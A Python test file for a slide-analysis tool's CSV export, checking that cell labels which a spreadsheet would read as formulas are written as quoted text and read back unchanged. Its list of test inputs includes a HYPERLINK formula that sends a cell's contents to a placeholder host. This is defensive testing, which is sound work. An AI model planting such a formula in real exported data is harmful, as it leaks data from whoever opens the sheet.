"""Nothing that this program writes for spreadsheets is a formula, whatever people call classes and slides."""

import csv
import re

import numpy as np
import pandas as pd
import pytest
import shapely

from clusterfirst.export import table
from clusterfirst.io import write_csv
from clusterfirst.outlines import foreign
from clusterfirst.text import from_spreadsheet, spreadsheet

from .. import defaults
from ..made import slide_facts
from .test_export_formats import written

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A2;"see")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "'=1",
    "=",
]
HARMLESS = ["stroma", "T-cell", "a=b", "'s", "", " x", "CD3+", "1e3", "ä"]


def rows(path):
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text_and_read_again(text):
    assert spreadsheet(text) == f"'{text}"
    assert from_spreadsheet(spreadsheet(text)) == text


@pytest.mark.parametrize("value", [*HARMLESS, -1, -1.5, None, True])
def test_what_is_no_formula_stays_as_it_is(value):
    assert spreadsheet(value) is value
    assert not isinstance(value, str) or from_spreadsheet(value) == value


def test_classes_of_cells_are_no_formulas_and_numbers_stay_numbers(tmp_path):
    names = [*FORMULAS, *filter(None, HARMLESS), None]
    squares = [shapely.box(20 * at, 0, 20 * at + 10, 10) for at in range(len(names))]
    table.export(written(tmp_path, squares, label=names), tmp_path / "cells.csv")
    found = rows(tmp_path / "cells.csv")
    assert [row["label"] or None for row in found] == [spreadsheet(name) for name in names]
    assert [float(row["x"]) for row in found] == [20 * at + 5 for at in range(len(names))]
    assert {row["truncated"] for row in found} == {"false"}


def test_cells_of_ours_are_a_truth_with_the_same_classes(tmp_path):
    names = ["=1", "-2+3", "'=1", "stroma"]
    squares = [shapely.box(20 * at, 0, 20 * at + 10, 10) for at in range(len(names))]
    table.export(written(tmp_path, squares, label=names), tmp_path / "cells.csv")
    truth = foreign.read_truth(
        tmp_path / "cells.csv", slide_facts(width=1000, height=1000), given=defaults.section("given")
    )
    assert truth["name"].tolist() == names


def test_tables_for_people(tmp_path):
    frame = pd.DataFrame(
        {
            "slide": ["-a", "b", None],
            "=class": pd.Series(["@x", "y", "z"], dtype="category"),
            "mixed": [-1, "=1", np.nan],
            "value": [-1.5, 2, np.nan],
            "count": pd.array([-1, 2, None], "Int64"),
            "swept": ["-1.0", "0.5", ""],
        }
    )
    write_csv(frame, tmp_path / "table.csv", float_format="%.2f", numbers=["swept"])
    assert (tmp_path / "table.csv").read_text(encoding="utf-8") == (
        "slide,'=class,mixed,value,count,swept\n'-a,'@x,-1,-1.50,-1,-1.0\nb,y,'=1,2.00,2,0.5\n,z,,,,\n"
    )
    ordinary = frame[["value", "count", "swept"]]
    write_csv(ordinary, tmp_path / "plain.csv", numbers=["swept"])
    assert (tmp_path / "plain.csv").read_text(encoding="utf-8") == ordinary.to_csv(index=False)


def test_all_tables_are_written_this_way(repo):
    scripts = repo / "workflow/scripts"
    writers = {
        path.relative_to(scripts).as_posix()
        for path in scripts.rglob("*.py")
        if re.search(r"\.to_csv\(|csv\.writer|DictWriter|CSVWriter|write_csv\(.*pyarrow", path.read_text("utf-8"))
    }
    assert writers == {"clusterfirst/io.py", "clusterfirst/export/table.py"}
